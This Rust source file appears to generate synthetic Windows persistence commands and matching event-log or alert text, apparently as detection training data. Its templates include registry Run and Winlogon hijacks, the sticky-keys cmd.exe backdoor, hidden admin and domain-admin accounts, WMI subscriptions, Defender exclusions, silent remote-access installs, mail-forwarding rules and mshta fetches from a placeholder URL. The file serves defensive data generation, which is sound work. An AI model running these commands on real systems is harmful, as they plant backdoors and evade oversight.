//! Persistence: Run keys, tasks, services, accounts, hooks into logon and programs.

use crate::generate::family::{Family, Kind::Cmd, Kind::Ps, Kind::Told};

pub const FAMILIES: &[Family] = &[
    Family::other("persistence-registry", "persistence-registry", Cmd, &[
        concat!(
            r"reg add {h}\Software\Microsoft\Windows\CurrentVersion\«Run¦RunOnce¦RunServices¦Policies\Explorer",
            r#"\Run¦RunOnceEx\0001\Depend» /v {stem} /t REG_SZ /d "{p}" /f"#,
        ),
        concat!(
            r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v "#,
            r#"«Shell¦Userinit¦Notify¦VMApplet¦GinaDLL» /t REG_SZ /d "«explorer.exe, "#,
            r#"{p}¦C:\Windows\system32\userinit.exe,{p}»" /f"#,
        ),
        concat!(
            r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution "#,
            r#"Options\«sethc.exe¦utilman.exe¦osk.exe¦magnify.exe¦narrator.exe¦displayswitch.exe¦{stem}.exe»" "#,
            r#"/v «Debugger¦GlobalFlag¦VerifierDlls» /t REG_SZ /d "{p}" /f"#,
        ),
        concat!(
            r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows" /v "#,
            "«AppInit_DLLs¦LoadAppInit_DLLs¦IconServiceLib» /t REG_SZ /d {p} /f",
        ),
        concat!(
            r#"reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v "«Security¦Notification¦Authentication» "#,
            r#"Packages" /t REG_MULTI_SZ /d "«scecli\0{stem}¦kerberos\0msv1_0\0{stem}»" /f"#,
        ),
        concat!(
            r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\Session Manager" /v «BootExecute /t REG_MULTI_SZ "#,
            r#"/d "autocheck autochk *\0{stem}"¦AppCertDlls /t REG_SZ /d {p}¦SetupExecute /t REG_MULTI_SZ /d "#,
            "{stem}» /f",
        ),
        concat!(
            r"reg add HKLM\SYSTEM\CurrentControlSet\Control\Print\Monitors\{stem} /v Driver /t REG_SZ /d ",
            "{stem}.dll /f",
        ),
        concat!(
            r"reg add HKLM\SYSTEM\CurrentControlSet\Services\«{svcname}\Parameters /v ServiceDll¦{svcname} /v ",
            r"ImagePath¦{svcname} /v FailureCommand¦W32Time\TimeProviders\{stem} /v ",
            r"DllName¦WinSock2\Parameters /v AutodialDLL¦NTDS /v LsaDbExtPt¦DNS\Parameters /v ",
            r#"ServerLevelPluginDll» /t REG_EXPAND_SZ /d "{p}" /f"#,
        ),
        r#"reg add HKCU\Environment /v «UserInitMprLogonScript¦COR_PROFILER_PATH¦windir» /t REG_SZ /d "{p}" /f"#,
        concat!(
            r"reg add HKCU\Software\Classes\CLSID\{{GUID}}\«InprocServer32¦LocalServer32¦TreatAs» /ve /t ",
            r#"REG_SZ /d "{p}" /f"#,
        ),
        r#"reg add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /t REG_SZ /d {dir}\{stem}.scr /f"#,
        concat!(
            r#"reg add "HKCU\Software\Microsoft\Office\16.0\«Word¦Excel¦Outlook»\«Security¦Options¦Addins\{stem"#,
            r#"}¦WebView\Inbox»" /v {stem} /t REG_SZ /d "{p}" /f"#,
        ),
        r#"reg add "HKCU\Software\Microsoft\Office test\Special\Perf" /ve /t REG_SZ /d "{p}" /f"#,
        r#"reg add "HKCU\Software\Microsoft\Command Processor" /v AutoRun /t REG_SZ /d "{p}" /f"#,
        concat!(
            r"reg add HKLM\SOFTWARE\Microsoft\«Netsh /v {stem}¦Active Setup\Installed Components\{{GUID}} /v ",
            r"StubPath¦Windows\CurrentVersion\Explorer\ShellServiceObjects\{{GUID}} /v ",
            r"{stem}¦Windows\CurrentVersion\Authentication\Credential Providers\{{GUID}} /v ",
            r"{stem}¦Cryptography\OID\EncodingType 0\CryptSIPDllGetSignedDataMsg\{{GUID}} /v ",
            r#"Dll¦AMSI\Providers\{{GUID}} /v {stem}» /t REG_SZ /d "{p}" /f"#,
        ),
        concat!(
            r"reg add HKLM\SYSTEM\CurrentControlSet\Control\NetworkProvider\Order /v ProviderOrder /t REG_SZ ",
            r#"/d "RDPNP,LanmanWorkstation,{stem}" /f"#,
        ),
        r"reg import {dir}\{stem}.reg & reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
        r"reg query {h}\Software\Microsoft\Windows\CurrentVersion\Run /s",
        r#"copy {p} "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\{stem}.exe""#,
        r#"copy {dir}\{stem}.lnk "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\""#,
        r"echo {p} >> C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\{stem}.bat",
        concat!(
            r"takeown /f C:\Windows\System32\«sethc.exe¦utilman.exe¦osk.exe» & icacls ",
            r"C:\Windows\System32\sethc.exe /grant {user}:F & copy /y C:\Windows\System32\cmd.exe ",
            r"C:\Windows\System32\«sethc.exe¦utilman.exe»",
        ),
        r"sdbinst.exe -q {dir}\{stem}.sdb",
        r"netsh add helper {dir}\{stem}.dll",
    ])
    .slots(&[
        ("h", r"«HKCU¦HKLM¦hkcu¦hklm¦HKEY_CURRENT_USER¦HKU\{sid}»"),
        ("p", concat!(
                r"«{dir}\{stem}.exe¦{dir}\{stem}.dll¦{appfile}¦cmd.exe /c {dir}\{stem}.bat¦powershell -w hidden ",
                r"-f {dir}\{stem}.ps1¦rundll32.exe {dir}\{stem}.dll,Start¦C:\Windows\System32\cmd.exe¦wscript ",
                r"{dir}\{stem}.vbs»",
            )),
    ])
    .weight(14),
    Family::other("persistence-tasks", "persistence-tasks", Cmd, &[
        concat!(
            r#"schtasks /create ⟦/tn «"»{t}«"»¦/tr "{p}"¦/sc «minute /mo {1..60}¦hourly¦daily /st "#,
            "{10..23}:{10..59}¦onlogon¦onstart¦onidle /i {5..60}¦once /st {10..23}:{10..59}»¦«/ru ",
            r#"«SYSTEM¦"NT AUTHORITY\SYSTEM"¦{user} /rp {password}»»¦«/rl highest»¦«/f»⟧"#,
        ),
        "schtasks« /s {host}» /«run¦query¦delete /f¦end» /tn {t}",
        r#"schtasks /change /tn "{t}" /tr "{p}""#,
        r"schtasks /create /xml {dir}\{stem}.xml /tn {t} /f",
        concat!(
            "schtasks /create /sc onevent /ec «Security¦System¦Application» /mo ",
            r#""*[System/EventID={1000..9999}]" /tn {t} /tr "{p}""#,
        ),
        r#"at« \\{host}» {10..23}:{10..59} /every:M,T,W "{p}""#,
        concat!(
            r#"sc« \\{host}» create {stem} binpath= "{p}"« type= own» start= «auto¦demand¦delayed-auto» « "#,
            r#"DisplayName= "{vendor} {product}"»"#,
        ),
        concat!(
            r#"sc« \\{host}» «config {svcname} binpath= "{p}"¦failure {svcname} command= "{p}" reset= 0 "#,
            "actions= run/1¦start {stem}¦sdset {stem} D:(A;;CCLCSWRPWPDTLOCRRC;;;SY)¦description {stem} ",
            r#""{product} helper"»"#,
        ),
        "nssm install {stem} {p}",
        r"instsrv {stem} C:\Windows\System32\srvany.exe",
        concat!(
            r#"wmic /namespace:"\\root\subscription" path «__EventFilter create Name="{stem}", "#,
            r#"EventNameSpace="root\cimv2", QueryLanguage="WQL", Query="SELECT * FROM "#,
            "__InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA ",
            r#"'Win32_PerfFormattedData_PerfOS_System'"¦CommandLineEventConsumer create Name="{stem}", "#,
            r#"CommandLineTemplate="{p}"¦__FilterToConsumerBinding create "#,
            r#"Filter='__EventFilter.Name="{stem}"', Consumer='CommandLineEventConsumer.Name="{stem}"'»"#,
        ),
        r"mofcomp {dir}\{stem}.mof",
        r#"bitsadmin /SetNotifyCmdLine {stem} "{p}" NULL & bitsadmin /SetMinRetryDelay {stem} {30..900}"#,
        concat!(
            "net user {user} {password} /add« /domain¦ /active:yes /expires:never»« & net localgroup ",
            r#"«administrators¦"Remote Desktop Users"» {user} /add»"#,
        ),
        "net user «guest¦support_{hex6}¦{user}$¦DefaultAccount» /active:yes & net user guest {password}",
        r"net localgroup administrators {domain}\{user} /add",
        r#"wmic useraccount where "Name='{user}'" set PasswordExpires=FALSE"#,
        concat!(
            r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" "#,
            "/v {user} /t REG_DWORD /d 0 /f",
        ),
        r"certutil -addstore «root¦-f trustedpublisher» {dir}\{stem}.cer",
        concat!(
            r#"schtasks /create /tn "\Microsoft\Windows\{product}\{stem}" /tr "rundll32 {dir}\{stem}.dll,Run" "#,
            "/sc onlogon /f",
        ),
        r"appcmd install module /name:{stem} /image:{dir}\{stem}.dll",
        r"copy {dir}\{stem}.aspx C:\inetpub\wwwroot\aspnet_client\{stem}.aspx",
        concat!(
            r#""C:\Program Files\Microsoft\Exchange Server\V15\Bin\exsetup.exe" & powershell "#,
            r#"New-ManagementRoleAssignment -Role "Mailbox Import Export" -User {user}"#,
        ),
        r#""C:\Program Files (x86)\TeamViewer\TeamViewer.exe" assignment --id {b64_40}"#,
        concat!(
            "«AnyDesk.exe --install {dir} --start-with-win --silent¦echo {password} | AnyDesk.exe ",
            "--set-password¦ScreenConnect.ClientSetup.exe /quiet¦msiexec /i atera.msi ",
            "/qn¦splashtop_streamer.exe prevercheck /s¦rustdesk.exe --install-service¦meshagent64.exe ",
            "-fullinstall»",
        ),
    ])
    .slots(&[
        ("t", concat!(
                r"«{stem}¦{product} Update¦\Microsoft\Windows\{product}\{stem}¦{vendor}Updater¦SystemSecurityCheck",
                "¦OneDrive Sync {digit4}»",
            )),
        ("p", concat!(
                r"«{dir}\{stem}.exe¦cmd.exe /c {dir}\{stem}.bat¦powershell -w hidden -f ",
                r"{dir}\{stem}.ps1¦rundll32.exe {dir}\{stem}.dll,Start¦{appfile}¦mshta {url}¦wscript.exe ",
                r"{dir}\{stem}.vbs»",
            )),
    ])
    .weight(12),
    Family::other("persistence-powershell", "persistence-powershell", Ps, &[
        concat!(
            r"«New¦Set»-ItemProperty -Path '«HKCU¦HKLM»:\Software\Microsoft\Windows\CurrentVersion\«Run¦RunOnc",
            "e»' -Name {stem} -Value '{p}'« -Force»",
        ),
        concat!(
            r"Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon' -Name ",
            "«Userinit¦Shell» -Value '{p}'",
        ),
        concat!(
            "$a = New-ScheduledTaskAction -Execute '{p}'; $t = New-ScheduledTaskTrigger ",
            "-«AtLogOn¦AtStartup¦Daily -At {1..12}am¦Once -At (Get-Date)»; Register-ScheduledTask -TaskName ",
            "{stem} -Action $a -Trigger $t« -User SYSTEM»« -RunLevel Highest»",
        ),
        concat!(
            "New-Service -Name {stem} -BinaryPathName '{p}' -StartupType Automatic« -DisplayName ",
            "'{product}'»; Start-Service {stem}",
        ),
        concat!(
            r"$f = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments ",
            r#"@{Name='{stem}';EventNameSpace='root\cimv2';QueryLanguage='WQL';Query="SELECT * FROM "#,
            r#"__InstanceCreationEvent WITHIN {5..90} WHERE TargetInstance ISA 'Win32_Process'"}"#,
        ),
        concat!(
            r"$c = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments ",
            "@{Name='{stem}';CommandLineTemplate='{p}'}",
        ),
        concat!(
            r"Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments ",
            "@{Filter=$f;Consumer=$c}",
        ),
        r#"Register-WmiEvent -Query "SELECT * FROM Win32_ProcessStartTrace" -Action { {stem} }"#,
        concat!(
            r"Get-WmiObject -Namespace root\subscription -Class «__EventFilter¦CommandLineEventConsumer¦__Filt",
            "erToConsumerBinding»« | Remove-WmiObject»",
        ),
        r#"Add-Content $PROFILE "Start-Process '{p}'""#,
        concat!(
            r#"$s = (New-Object -ComObject WScript.Shell).CreateShortcut("$env:APPDATA\Microsoft\Windows\Start "#,
            r#"Menu\Programs\Startup\{stem}.lnk"); $s.TargetPath = '{p}'; $s.Save()"#,
        ),
        concat!(
            "New-LocalUser {user} -Password (ConvertTo-SecureString '{password}' -AsPlainText -Force); ",
            "Add-LocalGroupMember Administrators {user}",
        ),
        r#"Copy-Item {psdir}\{stem}.dll "$env:APPDATA\Microsoft\Word\STARTUP\{stem}.wll""#,
        concat!(
            "New-ADUser -Name {user} -AccountPassword (ConvertTo-SecureString '{password}' -AsPlainText ",
            "-Force) -Enabled $true; Add-ADGroupMember 'Domain Admins' {user}",
        ),
        concat!(
            "Set-ADUser {user} -Add @{serviceprincipalname='{stem}/{stem}'}; Set-ADObject ",
            "'CN=AdminSDHolder,CN=System,DC={company},DC=com' -Replace @{description='{stem}'}",
        ),
        "Install-Persistence -«OnStartup¦AtLogon» -PayloadUrl {url}",
        "New-InboxRule -Mailbox {user} -Name . -ForwardTo {first}@{domain} -DeleteMessage $true",
        "Set-MpPreference -ExclusionPath {psdir}; Start-Process '{p}'",
        "Set-Service {svcname} -StartupType Automatic; sc.exe config {svcname} binPath= '{p}'",
    ])
    .slots(&[
        ("p", concat!(
                r"«{dir}\{stem}.exe¦powershell -w hidden -enc {b64_60}¦{appfile}¦cmd /c {dir}\{stem}.bat¦rundll32 ",
                r"{dir}\{stem}.dll,Run¦{url}»",
            )),
    ]),
    Family::other("persistence-told", "persistence-told", Told, &[
        concat!(
            "{who} «created¦added¦registered¦installed» «a Run key¦a scheduled task¦a service¦a WMI event ",
            "subscription¦a startup shortcut¦a new local administrator¦a web shell¦a security support ",
            "provider¦a password filter DLL¦an Image File Execution Options debugger¦a BITS job¦a COM ",
            "hijack¦an Outlook rule¦a port monitor¦a golden ticket¦AnyDesk¦a remote access tool» «named ",
            "{stem} ¦»«for persistence»{where}.",
        ),
        r"A scheduled task was «created¦updated¦deleted». Subject: {account} Task Name: \{stem}",
        concat!(
            r"A service was installed in the system. Service Name: {stem} Service File Name: {dir}\{stem}.exe ",
            "Service Account: LocalSystem",
        ),
        concat!(
            "A notification package has been loaded by the Security Account Manager. Notification Package ",
            "Name: «scecli¦{stem}»",
        ),
        concat!(
            "A security package has been loaded by the Local Security Authority. Security Package Name: ",
            r"{dir}\{stem}.dll : {stem}",
        ),
        "A user account was created. Subject: {account} New Account: {user}",
        "A member was added to a security-enabled local group. Member: {sid} Group: Administrators",
        concat!(
            r"WmiEventFilter activity detected: Operation: Created EventNamespace: root\cimv2 Name: {stem} ",
            "User: {account}",
        ),
        concat!(
            r"Registry value set: TargetObject: HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Run\{stem}",
            r" Details: {dir}\{stem}.exe Image: {dir}\{stem}.exe",
        ),
        concat!(
            "«Alert¦Detection»: persistence mechanism «Run key¦scheduled task¦new service¦sticky keys ",
            "backdoor¦web shell» {where}",
        ),
        "The accessibility program sethc.exe was replaced with cmd.exe{where}.",
    ])
    .weight(7),
];
